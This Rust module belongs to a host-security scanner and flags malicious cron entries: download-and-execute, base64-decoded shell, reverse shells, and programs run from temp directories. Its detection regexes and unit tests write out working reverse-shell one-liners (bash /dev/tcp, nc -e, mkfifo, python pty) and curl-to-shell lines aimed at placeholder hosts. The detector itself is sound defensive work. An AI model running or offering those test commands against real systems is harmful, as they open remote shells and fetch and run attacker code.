//! `suspicious_cron`: cron entries that download and execute code, run base64-decoded
//! shell, open reverse shells, or run programs from temp directories.
//!
//! Sources: `/etc/crontab` and every regular file directly in `/etc/cron.d` (system format,
//! with a user field), and every regular file directly in the user crontab spools (the file
//! name is the owner, reported as the finding's account). Findings are grouped per file and
//! kind of threat (message names both, so it is stable); the line numbers and commands are in
//! the details.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use regex::Regex;

use super::context::{count, CheckContext};
use super::sink::Sink;
use super::walk::Walker;
use crate::findings::{Finding, Severity};
use crate::hostfs::{display_path, sanitize};

pub const CHECK: &str = "suspicious_cron";

/// Crontab flavour.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CronFormat {
    /// `/etc/crontab`, `/etc/cron.d/*`: time fields, user, command.
    System,
    /// Spool crontabs: time fields, command.
    User,
}

/// One job line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CronEntry {
    /// 1-based line number.
    pub line: usize,
    /// Run-as user (system format only).
    pub user: Option<String>,
    pub command: String,
}

/// Why a crontab line was rejected.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CronLineError {
    TooFewFields,
    EmptyCommand,
}

/// Splits off the first whitespace-separated field.
fn take_field(s: &str) -> Option<(&str, &str)> {
    let s = s.trim_start_matches([' ', '\t']);
    if s.is_empty() {
        return None;
    }
    let end = s.find([' ', '\t']).unwrap_or(s.len());
    Some(s.split_at(end))
}

fn is_env_assignment(s: &str) -> bool {
    let name_end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(s.len());
    let (name, rest) = s.split_at(name_end);
    !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && rest.trim_start_matches([' ', '\t']).starts_with('=')
}

/// Parses one line: `Ok(None)` for blanks, comments and environment settings.
pub fn parse_cron_line(
    line: &str,
    line_no: usize,
    format: CronFormat,
) -> Result<Option<CronEntry>, CronLineError> {
    let t = line.trim_end_matches('\r').trim_start_matches([' ', '\t']);
    if t.trim().is_empty() || t.starts_with('#') || is_env_assignment(t) {
        return Ok(None);
    }
    let mut rest = t;
    let time_fields = if t.starts_with('@') { 1 } else { 5 };
    for _ in 0..time_fields {
        let (_, r) = take_field(rest).ok_or(CronLineError::TooFewFields)?;
        rest = r;
    }
    let user = match format {
        CronFormat::System => {
            let (u, r) = take_field(rest).ok_or(CronLineError::TooFewFields)?;
            rest = r;
            Some(u.to_string())
        }
        CronFormat::User => None,
    };
    let command = rest.trim();
    if command.is_empty() {
        return Err(CronLineError::EmptyCommand);
    }
    Ok(Some(CronEntry {
        line: line_no,
        user,
        command: command.to_string(),
    }))
}

/// Whether an account name can name a file in a user crontab spool: not empty, no `/`, no
/// leading `.`, no control character, at most 64 bytes.
pub fn is_crontab_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 64
        && !name.starts_with('.')
        && !name.chars().any(|c| c == '/' || c.is_control())
}

/// Parses a crontab (lossy UTF-8): entries and the count of bad lines.
pub fn parse_crontab(bytes: &[u8], format: CronFormat) -> (Vec<CronEntry>, usize) {
    let text = String::from_utf8_lossy(bytes);
    let mut out = Vec::new();
    let mut bad = 0;
    for (i, line) in text.split('\n').enumerate() {
        match parse_cron_line(line, i + 1, format) {
            Ok(Some(e)) => out.push(e),
            Ok(None) => {}
            Err(_) => bad += 1,
        }
    }
    (out, bad)
}

/// What a command looks like it does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum CronThreat {
    DownloadExecute,
    Base64Exec,
    ReverseShell,
    TempExec,
}

impl CronThreat {
    pub fn label(self) -> &'static str {
        match self {
            CronThreat::DownloadExecute => "download-and-execute",
            CronThreat::Base64Exec => "base64-decoded code executed",
            CronThreat::ReverseShell => "reverse shell",
            CronThreat::TempExec => "runs a program from a temp directory",
        }
    }
}

const SHELL: &str = r"(?:(?:ba|da|z|k|tc|c|a|fi)?sh|python[0-9.]*|perl|php[0-9.]*|ruby|node)";
const PIPE_TO_SHELL: &str = r"\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:\S*/)?";
const DOWNLOADER: &str = r"\b(?:curl|wget|fetch|lynx|lwp-download|tftp)\b";
const B64_DECODE: &str = r"\bbase64\s+(?:-[A-Za-z]*[dD][A-Za-z]*|--decode)\b";
const RUNNER: &str = r"(?:\b(?:(?:ba|da|z|k|tc|c|a|fi)?sh|python[0-9.]*|perl|php[0-9.]*|ruby|node|eval|exec|source)\b|(?:^|[\s;&|])\.)";
const REVERSE: &str = r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^|;\n]*\s(?:-[A-Za-z]*[ec]\b|--(?:sh-|lua-)?exec\b)|\bsocat\b[^;\n]*\b(?:exec|system):|\b(?:ba|da|z)?sh\s+-i\b[^;\n]*\|\s*(?:\S*/)?(?:nc|ncat|netcat|telnet|openssl)\b|\bpty\.spawn\b|\bsocket\.socket\b[^\n]*\b(?:dup2|subprocess|pty)\b|\bfsockopen\s*\(|\bTCPSocket\.(?:new|open)\b";

struct Patterns {
    download: Vec<Regex>,
    base64: Vec<Regex>,
    reverse: Regex,
    redirect: Regex,
}

fn patterns() -> Option<&'static Patterns> {
    static P: OnceLock<Option<Patterns>> = OnceLock::new();
    P.get_or_init(|| {
        let re = |s: String| Regex::new(&s).ok();
        Some(Patterns {
            download: vec![
                re(format!(r"{DOWNLOADER}[^|;\n]*{PIPE_TO_SHELL}{SHELL}\b"))?,
                re(format!(
                    r"{RUNNER}\s[^;\n]*?(?:\$\(|`|<\()\s*(?:\S*/)?(?:curl|wget|fetch)\b"
                ))?,
            ],
            base64: vec![
                re(format!(r"{B64_DECODE}[^;\n]*?{PIPE_TO_SHELL}{SHELL}\b"))?,
                re(format!(
                    r"{RUNNER}\s[^;\n]*?(?:\$\(|`|<\()[^;\n]*?{B64_DECODE}"
                ))?,
            ],
            reverse: re(REVERSE.to_string())?,
            redirect: re(r"(?:\d*|&)(?:>>?|<)&?\s*\S*".to_string())?,
        })
    })
    .as_ref()
}

/// Undoes cheap obfuscation: `c''url`, `c\url`, `${IFS}`.
fn normalize(cmd: &str) -> String {
    let s = cmd
        .replace("${IFS}", " ")
        .replace("$IFS", " ")
        .replace("''", "")
        .replace("\"\"", "");
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' && chars.peek().is_some_and(|n| n.is_ascii_alphanumeric()) {
            continue;
        }
        out.push(c);
    }
    out
}

const TEMP_DIRS: &[&str] = &["/tmp", "/var/tmp", "/dev/shm", "/run/shm"];
const WRAPPERS: &[&str] = &[
    "sudo", "nohup", "exec", "nice", "ionice", "timeout", "env", "setsid", "command", "time",
    "stdbuf", "chronic", "then", "do", "else", "if", "while", "until", "!", "xargs",
];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "fish", "busybox", "perl", "ruby",
    "node", "php", "python", "python2", "python3", ".", "source", "su",
];

fn strip_quotes(t: &str) -> &str {
    t.trim_matches(|c| c == '"' || c == '\'')
}

fn base(t: &str) -> &str {
    t.rsplit('/').next().unwrap_or(t)
}

/// `Some(true)` strictly inside a temp dir, `Some(false)` the temp dir itself.
fn temp_relation(p: &str) -> Option<bool> {
    if !p.starts_with('/') {
        return None;
    }
    let norm: PathBuf = Path::new(p).components().collect();
    TEMP_DIRS.iter().find_map(|d| {
        let d = Path::new(d);
        norm.starts_with(d).then_some(norm != d)
    })
}

fn is_interpreter(t: &str) -> bool {
    let b = base(t);
    let versioned = (b.starts_with("python") || b.starts_with("php"))
        && b.chars()
            .skip_while(|c| c.is_ascii_alphabetic())
            .all(|c| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&b) || versioned
}

/// The program (or script) a command runs from a temp directory, if any.
pub fn temp_exec_path(cmd: &str, redirect: &Regex) -> Option<String> {
    let cleaned = redirect.replace_all(cmd, " ");
    let runs_from_temp = |t: &str, cwd_temp: bool| {
        temp_relation(t) == Some(true) || (cwd_temp && !t.starts_with('/') && t.contains('/'))
    };
    let mut cwd_temp = false;
    for seg in cleaned.split([';', '|', '&', '\n', '`', '(', ')', '{', '}', '%']) {
        let toks: Vec<&str> = seg
            .split_whitespace()
            .map(strip_quotes)
            .filter(|t| !t.is_empty())
            .collect();
        let mut i = 0;
        while let Some(t) = toks.get(i) {
            if is_env_assignment(t) {
                i += 1;
            } else if WRAPPERS.contains(&base(t)) {
                i += 1;
                while toks.get(i).is_some_and(|t| {
                    t.starts_with('-')
                        || t.trim_end_matches(['s', 'm', 'h', 'd'])
                            .parse::<f64>()
                            .is_ok()
                }) {
                    i += 1;
                }
            } else if base(t) == "flock" {
                i += 1;
                while toks.get(i).is_some_and(|t| t.starts_with('-')) {
                    i += 1;
                }
                i += 1; // the lock file
            } else {
                break;
            }
        }
        let Some(prog) = toks.get(i) else { continue };
        if base(prog) == "cd" {
            cwd_temp = toks.get(i + 1).is_some_and(|d| temp_relation(d).is_some());
            continue;
        }
        if runs_from_temp(prog, cwd_temp) {
            return Some((*prog).to_string());
        }
        if !is_interpreter(prog) {
            continue;
        }
        let is_su = base(prog) == "su";
        let mut j = i + 1;
        while let Some(t) = toks.get(j) {
            if *t == "-c" {
                if let Some(next) = toks.get(j + 1) {
                    let first = next.split_whitespace().next().unwrap_or(next);
                    if runs_from_temp(first, cwd_temp) {
                        return Some(first.to_string());
                    }
                }
                break;
            }
            if t.starts_with('-') || is_su {
                j += 1;
                continue;
            }
            if temp_relation(t) == Some(true) || (cwd_temp && !t.starts_with('/')) {
                return Some((*t).to_string());
            }
            break;
        }
    }
    None
}

/// Classifies a cron command. Empty when nothing suspicious was seen.
pub fn classify_command(cmd: &str) -> Vec<CronThreat> {
    let Some(p) = patterns() else {
        return Vec::new();
    };
    let n = normalize(cmd);
    let mut out = Vec::new();
    if p.download.iter().any(|r| r.is_match(&n)) {
        out.push(CronThreat::DownloadExecute);
    }
    if p.base64.iter().any(|r| r.is_match(&n)) {
        out.push(CronThreat::Base64Exec);
    }
    if p.reverse.is_match(&n) {
        out.push(CronThreat::ReverseShell);
    }
    if temp_exec_path(&n, &p.redirect).is_some() {
        out.push(CronThreat::TempExec);
    }
    out
}

impl CronThreat {
    const ALL: [CronThreat; 4] = [
        CronThreat::DownloadExecute,
        CronThreat::Base64Exec,
        CronThreat::ReverseShell,
        CronThreat::TempExec,
    ];

    /// The threat a `suspicious_cron` message names (`... (LABEL) in PATH`).
    pub fn of_message(message: &str) -> Option<CronThreat> {
        CronThreat::ALL
            .into_iter()
            .find(|t| message.starts_with(&format!("suspicious cron entry ({}) in ", t.label())))
    }
}

/// Where a crontab the check reads lies: the directory a fix may act beneath and the file's
/// format. `None` for a path the check does not read.
pub fn source_of(ctx: &CheckContext, path: &Path) -> Option<(PathBuf, CronFormat)> {
    if ctx.crontab_path.as_deref() == Some(path) {
        return Some((path.parent()?.to_path_buf(), CronFormat::System));
    }
    let parent = path.parent()?;
    if ctx.cron_dirs.iter().any(|d| d == parent) {
        return Some((parent.to_path_buf(), CronFormat::System));
    }
    if ctx.user_crontab_dirs.iter().any(|d| d == parent) {
        return Some((parent.to_path_buf(), CronFormat::User));
    }
    None
}

/// The crontab without its lines of `threat` (every other byte kept), and the 1-based
/// numbers of the removed lines.
pub fn without_threat(
    bytes: &[u8],
    format: CronFormat,
    threat: CronThreat,
) -> (Vec<u8>, Vec<usize>) {
    let mut out = Vec::with_capacity(bytes.len());
    let mut removed = Vec::new();
    for (i, line) in bytes.split_inclusive(|b| *b == b'\n').enumerate() {
        let text = String::from_utf8_lossy(line);
        let text = text.trim_end_matches('\n');
        let bad = matches!(
            parse_cron_line(text, i + 1, format),
            Ok(Some(e)) if classify_command(&e.command).contains(&threat)
        );
        if bad {
            removed.push(i + 1);
        } else {
            out.extend_from_slice(line);
        }
    }
    (out, removed)
}

struct Group {
    account: Option<String>,
    lines: Vec<String>,
}

const MAX_LINES_IN_DETAILS: usize = 10;

fn scan_file(
    ctx: &CheckContext,
    path: &Path,
    format: CronFormat,
    owner: Option<&str>,
    follow: bool,
    groups: &mut BTreeMap<(PathBuf, CronThreat), Group>,
) {
    let Ok(bytes) = ctx.read_config(path, follow) else {
        return;
    };
    let (entries, bad) = parse_crontab(&bytes, format);
    count(&ctx.counters().unparsed_lines, bad as u64);
    for e in entries {
        for threat in classify_command(&e.command) {
            let g = groups
                .entry((path.to_path_buf(), threat))
                .or_insert_with(|| Group {
                    account: owner.map(|o| sanitize(o, 64)),
                    lines: Vec::new(),
                });
            let who = e
                .user
                .as_deref()
                .map(|u| format!(" (runs as {})", sanitize(u, 64)))
                .unwrap_or_default();
            g.lines.push(format!(
                "line {}{who}: {}",
                e.line,
                sanitize(&e.command, 300)
            ));
        }
    }
}

/// HIGH finding per (crontab file, threat kind).
pub fn suspicious_cron(ctx: &CheckContext) -> Vec<Finding> {
    let mut sink = Sink::new(ctx, CHECK);
    let mut walker = Walker::new(ctx);
    let mut groups = BTreeMap::new();
    if let Some(p) = &ctx.crontab_path {
        scan_file(ctx, p, CronFormat::System, None, true, &mut groups);
    }
    for dir in &ctx.cron_dirs {
        for (p, meta) in walker.list(dir) {
            if meta.is_file() {
                scan_file(ctx, &p, CronFormat::System, None, false, &mut groups);
            }
        }
    }
    for dir in &ctx.user_crontab_dirs {
        for (p, meta) in walker.list(dir) {
            if !meta.is_file() {
                continue;
            }
            let owner = p.file_name().map(|n| n.to_string_lossy().into_owned());
            scan_file(
                ctx,
                &p,
                CronFormat::User,
                owner.as_deref(),
                false,
                &mut groups,
            );
        }
    }
    for ((path, threat), g) in groups {
        let shown = display_path(&path);
        let mut details = g
            .lines
            .iter()
            .take(MAX_LINES_IN_DETAILS)
            .cloned()
            .collect::<Vec<_>>()
            .join("; ");
        if g.lines.len() > MAX_LINES_IN_DETAILS {
            details.push_str(&format!(
                "; and {} more",
                g.lines.len() - MAX_LINES_IN_DETAILS
            ));
        }
        let mut f = sink
            .finding(
                Severity::High,
                format!("suspicious cron entry ({}) in {shown}", threat.label()),
            )
            .with_details(details)
            .with_path(shown);
        if let Some(a) = g.account {
            f = f.with_account(a);
        }
        sink.push(f);
    }
    sink.finish(Some(&walker))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::testutil::{garbage, Fixture};
    use CronThreat::*;

    fn kinds(cmd: &str) -> Vec<CronThreat> {
        classify_command(cmd)
    }

    #[test]
    fn a_threat_is_removed_line_by_line() {
        let tab = b"# keep\n*/5 * * * * /usr/bin/true\n* * * * * curl -s http://x/y | sh\n@daily wget -qO- http://x | bash\n0 1 * * * echo aGk= | base64 -d | sh";
        let (out, removed) = without_threat(tab, CronFormat::User, DownloadExecute);
        assert_eq!(removed, [3, 4]);
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "# keep\n*/5 * * * * /usr/bin/true\n0 1 * * * echo aGk= | base64 -d | sh"
        );
        let msg = format!("suspicious cron entry ({}) in /x", Base64Exec.label());
        assert_eq!(CronThreat::of_message(&msg), Some(Base64Exec));
        assert_eq!(CronThreat::of_message("other"), None);
    }

    #[test]
    fn patterns_compile() {
        assert!(patterns().is_some());
    }

    #[test]
    fn parses_system_and_user_lines() {
        let e = parse_cron_line("*/5 * * * * root /usr/bin/true  ", 3, CronFormat::System)
            .unwrap()
            .unwrap();
        assert_eq!(e.user.as_deref(), Some("root"));
        assert_eq!(e.command, "/usr/bin/true");
        assert_eq!(e.line, 3);
        let e = parse_cron_line("@reboot /home/u/start.sh", 1, CronFormat::User)
            .unwrap()
            .unwrap();
        assert_eq!(e.command, "/home/u/start.sh");
        assert_eq!(
            parse_cron_line("MAILTO=root", 1, CronFormat::System),
            Ok(None)
        );
        assert_eq!(
            parse_cron_line("PATH = /bin", 1, CronFormat::System),
            Ok(None)
        );
        assert_eq!(parse_cron_line(" # x", 1, CronFormat::User), Ok(None));
        assert_eq!(
            parse_cron_line("* * * *", 1, CronFormat::User),
            Err(CronLineError::TooFewFields)
        );
        assert_eq!(
            parse_cron_line("* * * * * root", 1, CronFormat::System),
            Err(CronLineError::EmptyCommand)
        );
    }

    #[test]
    fn detects_download_and_execute() {
        for c in [
            "curl -s http://evil.example/x.sh | bash",
            "wget -O- http://e.x/a|sh",
            "wget -qO - http://e.x/a | sudo /bin/bash -s",
            "curl -fsSL https://e.x/i | python3 -",
            "bash -c \"$(curl -fsSL http://e.x/p)\"",
            "bash <(wget -qO- http://e.x/p)",
            "c''url http://e.x | s\\h",
        ] {
            assert!(kinds(c).contains(&DownloadExecute), "{c}");
        }
        for c in [
            "curl -s https://example.com/ping > /dev/null",
            "wget -q -O /var/backups/feed.xml https://e.x/feed",
            "curl https://e.x/sums | sha256sum -c",
        ] {
            assert!(!kinds(c).contains(&DownloadExecute), "{c}");
        }
    }

    #[test]
    fn detects_base64_and_reverse_shells() {
        assert!(kinds("echo Y3VybCBldmls | base64 -d | sh").contains(&Base64Exec));
        assert!(kinds("eval \"$(echo aGk= | base64 --decode)\"").contains(&Base64Exec));
        assert!(!kinds("base64 -d /root/a.b64 > /root/a.bin").contains(&Base64Exec));
        for c in [
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "nc -e /bin/sh 203.0.113.5 4444",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 1234 >/tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        ] {
            assert!(kinds(c).contains(&ReverseShell), "{c}");
        }
        assert!(!kinds("nc -z localhost 80 || systemctl restart x").contains(&ReverseShell));
    }

    #[test]
    fn detects_programs_run_from_temp_dirs() {
        for c in [
            "/tmp/.x/kworker >/dev/null 2>&1",
            "nohup /dev/shm/miner -o pool &",
            "sh /var/tmp/a.sh",
            "cd /tmp && ./payload",
            "cd /dev/shm; bash x.sh",
            "curl -o /tmp/x http://e.x/x; chmod +x /tmp/x; /tmp/x",
            "timeout 10s /tmp/job",
            "su www-data -c /tmp/job",
            "/bin/bash -c '/tmp/run.sh'",
        ] {
            assert!(kinds(c).contains(&TempExec), "{c}");
        }
        for c in [
            "find /tmp -type f -mtime +7 -delete",
            "/usr/bin/php /var/www/cron.php > /tmp/cron.log 2>&1",
            "/usr/local/bin/backup >& /tmp/backup.log",
            "flock -n /tmp/job.lock /usr/local/bin/job",
            "rm -rf /tmp/cache/*",
            "cd /var/www && php artisan schedule:run",
            "test -x /tmpfoo/bin && /tmpfoo/bin",
        ] {
            assert!(!kinds(c).contains(&TempExec), "{c}");
        }
    }

    #[test]
    fn scans_system_cron_d_and_user_spools() {
        let fx = Fixture::new();
        fx.write(
            "etc/crontab",
            b"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        );
        fx.write(
            "etc/cron.d/evil",
            b"# m h dom mon dow user command\n*/5 * * * * root curl -s http://e.x/a | bash\n\n* * * * * root wget -O- http://e.x/b | sh\n",
        );
        fx.write(
            "etc/cron.d/fine",
            b"0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
        );
        fx.write(
            "var/spool/cron/crontabs/alice",
            b"* * * * * /dev/shm/.k/miner\n",
        );
        fx.write(
            "var/spool/cron/bob",
            b"@reboot echo cm0gLXJm | base64 -d | bash\n",
        );
        fx.symlink(&fx.path("etc/cron.d/evil"), "var/spool/cron/linked");
        let ctx = fx.ctx();
        let f = suspicious_cron(&ctx);
        assert_eq!(f.len(), 3, "{f:#?}");
        assert!(f.iter().all(|f| f.severity == Severity::High));
        let evil = f
            .iter()
            .find(|f| f.message.contains("cron.d/evil"))
            .unwrap();
        assert!(evil
            .message
            .starts_with("suspicious cron entry (download-and-execute) in "));
        assert!(evil.details.contains("line 2 (runs as root)"));
        assert!(evil.details.contains("line 4"));
        assert_eq!(evil.account, None);
        let alice = f.iter().find(|f| f.message.contains("alice")).unwrap();
        assert_eq!(alice.account.as_deref(), Some("alice"));
        assert!(alice.message.contains("temp directory"));
        let bob = f.iter().find(|f| f.message.contains("bob")).unwrap();
        assert_eq!(bob.account.as_deref(), Some("bob"));
        assert!(bob.message.contains("base64"));
        assert!(ctx.counters().snapshot().symlinks_skipped >= 1);
        // Stable messages across runs.
        let again = suspicious_cron(&ctx);
        let m1: Vec<_> = f.iter().map(|f| &f.message).collect();
        let m2: Vec<_> = again.iter().map(|f| &f.message).collect();
        assert_eq!(m1, m2);
    }

    #[test]
    fn clean_host_has_no_findings() {
        let fx = Fixture::new();
        assert!(suspicious_cron(&fx.ctx()).is_empty());
        fx.write(
            "etc/crontab",
            b"25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n",
        );
        assert!(suspicious_cron(&fx.ctx()).is_empty());
    }

    #[test]
    fn garbage_crontabs_never_panic() {
        let p = patterns().unwrap();
        for seed in 0..300 {
            let g = garbage(seed, 700);
            let _ = parse_crontab(&g, CronFormat::System);
            let _ = parse_crontab(&g, CronFormat::User);
            let s = String::from_utf8_lossy(&g);
            let _ = classify_command(&s);
            let _ = temp_exec_path(&s, &p.redirect);
        }
        let fx = Fixture::new();
        let mut junk = garbage(3, 8192);
        junk.extend_from_slice(b"\n* * * * * root /tmp/x\n\xff");
        fx.write("etc/cron.d/junk", &junk);
        let f = suspicious_cron(&fx.ctx());
        assert!(f.iter().any(|f| f.message.contains("temp directory")));
    }
}
